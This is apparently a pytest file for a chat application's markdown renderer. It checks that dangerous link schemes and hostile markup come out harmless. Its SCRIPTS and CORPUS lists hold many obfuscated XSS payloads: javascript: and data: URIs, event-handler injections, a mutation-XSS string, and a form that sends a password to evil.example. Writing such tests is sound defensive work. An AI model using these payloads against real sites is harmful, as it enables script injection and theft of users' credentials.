import re

import pytest

from chat.markup import render
from tests.markup.allowed import check

SCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0ascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript\\:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://example.com/%0aalert(1)",
    "javascript:https://example.com",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/png;base64,AAAA",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "view-source:https://example.com",
    "intent://example.com#Intent;end",
    "//example.com",
    "/accounts/logout/",
    "?next=1",
    "#top",
    "",
]
PLACES = ["[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "{}", "[![x]({})](https://a.example)", "[x][{}]\n\n[x]: {}"]

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<iframe src='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "</p></div><script>alert(1)</script>",
    '[x](https://a.example "title\\" onclick=\\"alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "[x](https://a.example/<script>alert(1)</script>)",
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/'><script>alert(1)</script>",
    '<https://a.example/"onmouseover=alert(1)>',
    "<https://a.example/><script>alert(1)</script>",
    "[https://b.example](https://a.example)",
    "[<https://b.example>](https://a.example)",
    "[[b](https://b.example)](https://a.example)",
    "[![b](https://b.example)](https://a.example)",
    "[ann@example.com](https://a.example)",
    "[@ann and https://b.example](https://a.example)",
    "![@ann](https://a.example/x.png)",
    "<https://a.example/@ann>",
    '@ann" onclick="alert(1)',
    "@ann<script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    '```py" onclick="alert(1)\nx\n```',
    "```<script>\nx\n```",
    "```php\n<?php echo '<script>'; ?>\n```",
    "~~~html\n<!--\n~~~",
    "    <script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    '|a|\n|:-" onclick=alert(1)|\n|b|',
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a<b>href=x>",
    "<\x00script>",
    ":tada:<script>",
    "\u202ehttps://a.example\u202c",
    "https://a.example\u200b<b>",
    "mailto:x@example.com?subject=<script>",
    '<mailto:x@example.com"onclick=alert(1)>',
]


@pytest.mark.parametrize("script", SCRIPTS)
@pytest.mark.parametrize("place", PLACES)
def test_an_address_that_is_not_of_the_web_never_becomes_a_link(place: str, script: str) -> None:
    html = render(place.replace("{}", script))
    check(html)
    for address in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"https?://(a\.)?example(\.com)?", address), address


@pytest.mark.parametrize("body", CORPUS)
def test_hostile_markup_becomes_harmless(body: str) -> None:
    check(render(body))


@pytest.mark.parametrize("body", [body for body in CORPUS if body.startswith("<s")])
def test_tags_are_shown_as_they_were_typed(body: str) -> None:
    assert check(render(body)).strip() == body.replace("&lpar;", "(").replace("&rpar;", ")")
